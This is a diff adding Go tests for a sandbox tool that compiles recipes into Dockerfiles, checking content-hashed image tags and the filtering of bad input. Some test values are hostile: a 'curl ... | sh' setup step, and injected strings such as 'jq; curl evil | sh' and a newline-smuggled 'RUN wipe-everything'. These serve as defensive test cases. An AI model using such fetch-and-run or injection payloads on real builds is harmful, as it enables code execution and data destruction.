@@ -1,0 +1,93 @@
+package project_test
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/hutchsandbox/hutch/internal/project"
+)
+
+var recipes = []struct {
+	name string
+	r    project.Recipe
+	tag  string
+}{
+	{"default", project.Recipe{Agents: []string{"claude"}}, "hutch-sandbox:678b3d1a"},
+	{"no_agents", project.Recipe{}, "hutch-sandbox:d11d5138"},
+	{"full", project.Recipe{
+		Base:     "ubuntu:24.04",
+		Packages: []string{"jq", " ripgrep ", "git", "jq", "", "python3=3.12.3-0ubuntu1", "libssl3:amd64"},
+		Agents:   []string{"Claude", "codex", "gemini", "claude"},
+		Setup:    []string{"pip install --break-system-packages uv", "  ", "curl -fsSL https://example.com/x.sh | sh"},
+	}, "hutch-sandbox:6e6bea46"},
+	{"devcontainer_base", project.Recipe{Base: "mcr.microsoft.com/devcontainers/typescript-node:1-22-bookworm", Agents: []string{"claude"}}, "hutch-sandbox:8e9ce28f"},
+}
+
+// TestRecipe_Dockerfile pins the generated Dockerfiles and their tags (the
+// tags were checked with an independent FNV-1a over the golden files): a
+// change to either rebuilds every user's sandbox image, so it must be on
+// purpose.
+func TestRecipe_Dockerfile(t *testing.T) {
+	for _, tc := range recipes {
+		t.Run(tc.name, func(t *testing.T) {
+			d, notes := tc.r.Compile()
+			if len(notes) != 0 {
+				t.Errorf("Compile notes %q, want none", notes)
+			}
+			if d != tc.r.Dockerfile() {
+				t.Errorf("Dockerfile() differs from Compile()")
+			}
+			golden(t, "recipe_"+tc.name+".dockerfile", d)
+			if got := tc.r.Tag(); got != tc.tag {
+				t.Errorf("Tag() got %q, want %q", got, tc.tag)
+			}
+			if got, want := tc.r.Tag(), "hutch-sandbox:"+project.Hash(d); got != want {
+				t.Errorf("Tag() got %q, want the hash of the Dockerfile %q", got, want)
+			}
+		})
+	}
+}
+
+func TestRecipe_TagFollowsTheDockerfile(t *testing.T) {
+	base := project.Recipe{Agents: []string{"claude"}, Packages: []string{"jq"}}
+	same := project.Recipe{Agents: []string{" claude", "claude"}, Packages: []string{"jq", "jq", " "}}
+	if base.Tag() != same.Tag() {
+		t.Errorf("recipes with the same Dockerfile got tags %s and %s", base.Tag(), same.Tag())
+	}
+	for _, changed := range []project.Recipe{
+		{Agents: []string{"claude"}, Packages: []string{"jq", "ripgrep"}},
+		{Agents: []string{"claude", "codex"}, Packages: []string{"jq"}},
+		{Agents: []string{"claude"}, Packages: []string{"jq"}, Setup: []string{"true"}},
+		{Base: "debian:trixie-slim", Agents: []string{"claude"}, Packages: []string{"jq"}},
+	} {
+		if changed.Tag() == base.Tag() {
+			t.Errorf("recipe %+v got the tag of %+v", changed, base)
+		}
+	}
+}
+
+// TestRecipe_Notes: what cannot go into the image is left out with a
+// note, and nothing of it reaches the Dockerfile.
+func TestRecipe_Notes(t *testing.T) {
+	r := project.Recipe{
+		Base:     "debian\nRUN wipe-everything",
+		Packages: []string{"jq; curl evil | sh", "Foo", "jq"},
+		Agents:   []string{"copilot", "claude"},
+		Setup: []string{
+			"echo one\nRUN echo two", "echo continued \\", "cat <<EOF > /etc/motd",
+			"cat <<< 'here-string is fine'", "echo ok",
+		},
+	}
+	d, notes := r.Compile()
+	for _, bad := range []string{"wipe-everything", "evil", "Foo", "copilot", "continued", "EOF", "two"} {
+		if strings.Contains(d, bad) {
+			t.Errorf("the Dockerfile holds %q:\n%s", bad, d)
+		}
+	}
+	for _, good := range []string{"FROM debian:bookworm-slim\n", " jq ", "RUN cat <<< 'here-string is fine'\n", "RUN echo ok\n"} {
+		if !strings.Contains(d, good) {
+			t.Errorf("the Dockerfile lacks %q:\n%s", good, d)
+		}
+	}
+	golden(t, "recipe_notes", strings.Join(notes, "\n")+"\n")
+}
